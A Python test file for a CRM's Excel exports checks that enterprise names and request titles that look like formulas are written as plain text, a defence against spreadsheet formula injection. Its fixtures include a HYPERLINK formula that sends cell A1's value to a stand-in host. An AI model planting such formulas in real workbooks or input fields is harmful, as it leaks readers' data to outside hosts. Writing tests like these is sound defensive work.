"""Text that looks like a formula is written as text in every workbook (issue 17, item 3).

An enterprise named =1+1 or a request titled @SUM(A1) (the public form accepts any title)
must reach the reader's Excel as the string typed, never as a live formula or link.
"""
from __future__ import annotations

import io
from datetime import date

import openpyxl
import pytest

from crm.auth.roles import Role
from crm.db import db
from crm.enterprises import import_apply
from crm.enterprises.models import Enterprise
from tests.factories import assign, enterprise

TODAY = date(2026, 11, 24)
NAME, TITLE = "=1+1", "@SUM(A1)"
LINK = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'


@pytest.fixture(autouse=True)
def pinned(today):
    today(TODAY)


def cells_holding(data: bytes, text: str) -> list:
    """Every cell, in every sheet, whose stored value is `text` (as a string or as a formula)."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value == text]


def assert_written_as_text(data: bytes, text: str) -> None:
    cells = cells_holding(data, text)
    assert cells, f"{text} is not in the workbook"
    assert {cell.data_type for cell in cells} == {"s"}, [(c.coordinate, c.data_type) for c in cells]


def test_coverage_report_writes_an_enterprise_named_like_a_formula_as_text(client, town, make_user, login_as):
    liaison = make_user(Role.LIAISON, login="l1", name="张一", town=town)
    assign(liaison, enterprise(town, name=NAME))
    assign(liaison, enterprise(town, name=LINK))
    login_as(make_user(Role.COMMISSION))
    response = client.get("/reports/coverage.xlsx?quarter=2026Q4")
    assert response.status_code == 200
    assert_written_as_text(response.data, NAME)  # in 待走访, a pair still owing its visit
    assert_written_as_text(response.data, LINK)


def test_requests_report_writes_a_title_and_a_name_like_formulas_as_text(client, town, department, make_user,
                                                                         login_as):
    from crm.requests.categories import ensure_default_categories
    from crm.requests.intake import create_request
    from crm.requests.workflow import transition

    commission = make_user(Role.COMMISSION, login="commission")
    liaison = make_user(Role.LIAISON, login="liaison", town=town)
    category = next(c for c in ensure_default_categories() if c.name == "政策咨询")
    ent = enterprise(town, name=NAME)
    assign(liaison, ent)
    req = create_request(enterprise=ent, source="visit", category=category, title=TITLE, description="内容",
                         actor=liaison, submitted_on=date(2026, 11, 20))
    # Assigned on Friday and not signed for: listed under 未签收诉求 on the 24th.
    transition(req, "assign", commission, today=date(2026, 11, 20), lead_department=department, time_limit_days=5)
    db.session.commit()
    login_as(commission)
    response = client.get("/reports/requests.xlsx?period=2026-11")
    assert response.status_code == 200
    assert_written_as_text(response.data, TITLE)
    assert_written_as_text(response.data, NAME)


def test_enterprise_export_writes_the_name_as_text_and_imports_back_unchanged(client, town, users, login_as):
    ent = enterprise(town, name=NAME)
    login_as(users[Role.COMMISSION])
    response = client.get("/enterprises/export.xlsx?status=all")
    assert response.status_code == 200
    assert_written_as_text(response.data, NAME)
    plan, result = import_apply.apply(response.data, "export.xlsx")
    db.session.commit()
    assert (result.created, result.updated, result.unchanged) == (0, 0, 1)
    assert db.session.get(Enterprise, ent.id).name == NAME
